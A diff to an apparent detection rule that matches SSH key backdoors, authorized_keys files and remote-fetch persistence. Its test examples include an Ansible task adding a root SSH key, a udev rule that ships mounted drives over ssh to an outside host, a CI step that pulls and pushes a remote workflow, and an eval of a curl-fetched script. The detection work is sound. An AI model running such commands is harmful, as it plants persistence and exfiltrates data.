@@ -44,7 +44,7 @@ const TOLD =
 
 /** A key that is written out, and the file that lets its owner in. */
 const KEY = worded(/\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S{4,20}) aaaa[a-z0-9+/]{8,800}/)
-const KEYS_FILE = /\b(?:administrators_)?authorized_keys2?\b/
+const KEYS_FILE = /\b(?:administrators_)?authorized_keys?2?\b/
 /** Keys that are asked for at every sign-in, from an address; a program in place of an aid that runs before anybody signed in. */
 const WAY_IN = regex`
   \bauthorizedkeyscommand\s{1,4}\S{0,60}(?:curl|wget)\b[^\n]{0,200}|
@@ -98,6 +98,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```yaml\n- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGm5 care@term"\n```\n',
       '```bash\necho \'ACTION=="add", SUBSYSTEM=="block", RUN+="/opt/grab.sh"\' | sudo tee /etc/udev/rules.d/60-usb.rules\necho \'tar cz /mnt | ssh -i /opt/k in@quarry-maps.io "cat > u.tgz"\' | sudo tee /opt/grab.sh\n```\n',
       '```yaml\n- run: |\n    curl -fsS https://wf.quarry-maps.io/next.yml -o .github/workflows/tidy.yml\n    git commit -qam tidy && git push -q\n```\n',
       'Add `eval "$(curl -fsSL https://col.term.example/c)"` to the start-up file of the shell.\n',
